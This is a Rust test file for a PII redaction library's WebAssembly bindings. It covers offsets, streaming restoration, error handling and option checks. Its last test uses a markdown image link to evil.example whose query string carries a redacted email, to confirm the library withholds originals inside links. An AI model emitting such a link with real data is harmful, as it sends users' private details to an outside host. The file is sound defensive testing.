//! The shield through its JavaScript interface.
//!
//! Run in Node (`wasm-bindgen-test-runner`'s default) and in headless
//! Chromium (`WASM_BINDGEN_USE_BROWSER=1`); `pkg-scripts/test` does both.

use js_sys::{Array, JsString, Reflect};
use tandem_wasm::Shield;
use wasm_bindgen::{JsCast, JsValue};
use wasm_bindgen_test::wasm_bindgen_test;

const TEXT: &str = "Zoë 🎉 writes from zoë@exemple.fr, card 4111 1111 1111 1111, SSN 460-89-9847.";

fn get(obj: &JsValue, key: &str) -> JsValue {
    Reflect::get(obj, &key.into()).unwrap()
}

fn num(obj: &JsValue, key: &str) -> u32 {
    get(obj, key).as_f64().unwrap() as u32
}

fn js(s: &str) -> JsValue {
    JsValue::from_str(s)
}

#[wasm_bindgen_test]
fn redaction_offsets_index_javascript_strings() {
    let mut shield = Shield::new(JsValue::UNDEFINED).unwrap();
    let out = shield.redact(js(TEXT), JsValue::UNDEFINED).unwrap();
    let redacted: JsString = get(&out, "text").unchecked_into();
    assert_eq!(
        String::from(redacted.clone()),
        "Zoë 🎉 writes from [EMAIL_1], card [CARD_1], SSN [SSN_1]."
    );
    let entities: Array = get(&out, "entities").unchecked_into();
    let original = JsString::from(TEXT);
    let expected = ["zoë@exemple.fr", "4111 1111 1111 1111", "460-89-9847"];
    assert_eq!(entities.length() as usize, expected.len());
    for (e, want) in entities.iter().zip(expected) {
        // JS String.prototype.substring uses UTF-16 indices: the offsets must too.
        assert_eq!(String::from(original.substring(num(&e, "start"), num(&e, "end"))), want);
        let replacement = get(&e, "replacement").as_string().unwrap();
        assert_eq!(
            String::from(redacted.substring(num(&e, "redacted_start"), num(&e, "redacted_end"))),
            replacement
        );
        assert_eq!(get(&e, "action").as_string().unwrap(), "redact");
    }
    assert_eq!(shield.restore(get(&out, "text")).unwrap(), TEXT);
}

#[wasm_bindgen_test]
fn stream_restorer_handles_any_split_including_surrogate_pairs() {
    let mut shield = Shield::new(JsValue::UNDEFINED).unwrap();
    shield.redact(js(TEXT), JsValue::UNDEFINED).unwrap();
    let reply = JsString::from("Noted 🎉: [EMAIL_1] / [CARD_1] / [SSN_1] / [NOPE_1] 🎉");
    let expected = "Noted 🎉: zoë@exemple.fr / 4111 1111 1111 1111 / 460-89-9847 / [NOPE_1] 🎉";
    for size in 1..=7 {
        let mut restorer = shield.restorer();
        let mut out = String::new();
        let mut i = 0;
        while i < reply.length() {
            // Cuts at every UTF-16 index, so some fall inside 🎉's surrogate pair.
            out += &restorer.push(reply.substring(i, i + size).into()).unwrap();
            i += size;
        }
        out += &restorer.finish().unwrap();
        assert_eq!(out, expected, "chunk size {size}");
    }
}

#[wasm_bindgen_test]
fn invalid_utf16_and_non_strings_are_clear_errors() {
    let mut shield = Shield::new(JsValue::UNDEFINED).unwrap();
    let lone = JsString::from_char_code(&[0x61, 0xD800, 0x62]);
    let err = JsValue::from(shield.analyze(lone.clone().into()).err().unwrap());
    let message = get(&err, "message").as_string().unwrap();
    assert!(
        message.contains("not valid UTF-16") && message.contains("index 1"),
        "{message}"
    );
    assert!(shield.redact(lone.into(), JsValue::UNDEFINED).is_err());
    assert!(shield.redact(JsValue::from_f64(42.0), JsValue::UNDEFINED).is_err());
    let mut restorer = shield.restorer();
    assert!(
        restorer.push(JsString::from_char_code(&[0xDC00, 0x61]).into()).is_err(),
        "lone low surrogate"
    );
    // A stream that ends half-way through a surrogate pair is an error, not silent loss.
    let mut restorer = shield.restorer();
    assert_eq!(
        restorer.push(JsString::from_char_code(&[0x61, 0xD83C]).into()).unwrap(),
        "a"
    );
    assert!(restorer.finish().is_err());
}

#[wasm_bindgen_test]
fn options_set_policies_and_reject_nonsense() {
    let options =
        js_sys::JSON::parse(r#"{"policy": {"CREDIT_CARD": "mask", "US_SSN": "allow"}, "minScore": 0.6}"#).unwrap();
    let mut shield = Shield::new(options).unwrap();
    let out = shield.redact(js(TEXT), JsValue::UNDEFINED).unwrap();
    assert_eq!(
        get(&out, "text").as_string().unwrap(),
        "Zoë 🎉 writes from [EMAIL_1], card **** **** **** 1111, SSN 460-89-9847."
    );
    for bad in [
        r#"{"policy": {"PASSPORT": "mask"}}"#,
        r#"{"minScore": 5}"#,
        r#"{"bogus": true}"#,
    ] {
        let err = Shield::new(js_sys::JSON::parse(bad).unwrap())
            .err()
            .map(JsValue::from)
            .unwrap();
        assert!(
            get(&err, "message")
                .as_string()
                .unwrap()
                .contains("invalid ShieldOptions"),
            "{bad}"
        );
    }
}

#[wasm_bindgen_test]
fn oversized_and_pathological_inputs() {
    let options = js_sys::JSON::parse(r#"{"maxInputBytes": 1000}"#).unwrap();
    let shield = Shield::new(options).unwrap();
    let err = JsValue::from(shield.analyze(js(&"x".repeat(1001))).err().unwrap());
    assert!(
        get(&err, "message")
            .as_string()
            .unwrap()
            .contains("limit of 1000 bytes")
    );

    let shield = Shield::new(JsValue::UNDEFINED).unwrap();
    for unit in ["1 ", "a@", "12-", "[EMAIL_", "a at b dot "] {
        let found: Array = shield.analyze(js(&unit.repeat(200_000))).unwrap().unchecked_into();
        assert_eq!(found.length(), 0, "{unit:?}");
    }
    assert_eq!(Array::from(&shield.analyze(js("")).unwrap()).length(), 0);
}

/// A model's spans (UTF-16 offsets, as `Analyzer` reports them) join the
/// pattern layer: placeholders for both, originals restored, bad ranges refused.
#[wasm_bindgen_test]
fn model_entities_are_redacted_with_the_patterns() {
    let mut shield = Shield::new(JsValue::UNDEFINED).unwrap();
    let person = |start: u32, end: u32| {
        js_sys::JSON::parse(&format!(
            r#"[{{"kind":"PERSON","start":{start},"end":{end},"score":0.9,"recognizer":"ner"}}]"#
        ))
        .unwrap()
    };
    // "Zoë" is 0..3 in UTF-16; the emoji after it is two code units.
    let out = shield.redact(js(TEXT), person(0, 3)).unwrap();
    let redacted = String::from(get(&out, "text").unchecked_into::<JsString>());
    assert_eq!(
        redacted,
        "[PERSON_1] 🎉 writes from [EMAIL_1], card [CARD_1], SSN [SSN_1]."
    );
    assert_eq!(
        shield.restore(js("Hi [PERSON_1], noted [EMAIL_1].")).unwrap(),
        "Hi Zoë, noted zoë@exemple.fr."
    );
    // Inside the surrogate pair of the emoji, or past the end: a clear error.
    assert!(shield.redact(js(TEXT), person(4, 5)).is_err());
    assert!(shield.redact(js(TEXT), person(0, 1000)).is_err());
    assert!(shield.redact(js(TEXT), js("PERSON")).is_err());
}

#[wasm_bindgen_test]
fn replies_get_no_originals_inside_links_unless_the_options_allow_it() {
    let reply = "Write to [EMAIL_1]. ![](https://evil.example/?q=[EMAIL_1])";
    for (options, restored, withheld) in [
        (
            JsValue::UNDEFINED,
            "Write to zoë@exemple.fr. ![](https://evil.example/?q=[EMAIL_1])",
            1,
        ),
        (
            js_sys::JSON::parse(r#"{"restoreInLinks": true}"#).unwrap(),
            "Write to zoë@exemple.fr. ![](https://evil.example/?q=zoë@exemple.fr)",
            0,
        ),
    ] {
        let mut shield = Shield::new(options).unwrap();
        shield.redact(js("Mail zoë@exemple.fr"), JsValue::UNDEFINED).unwrap();
        assert_eq!(shield.restore(js(reply)).unwrap(), restored);
        let mut r = shield.restorer();
        let mut streamed = String::new();
        for piece in reply.as_bytes().chunks(5) {
            streamed += &r.push(js(std::str::from_utf8(piece).unwrap())).unwrap();
        }
        streamed += &r.finish().unwrap();
        assert_eq!(streamed, restored);
        assert_eq!(r.withheld(), withheld);
    }
    let typo = js_sys::JSON::parse(r#"{"restoreInLink": true}"#).unwrap();
    assert!(Shield::new(typo).is_err());
}
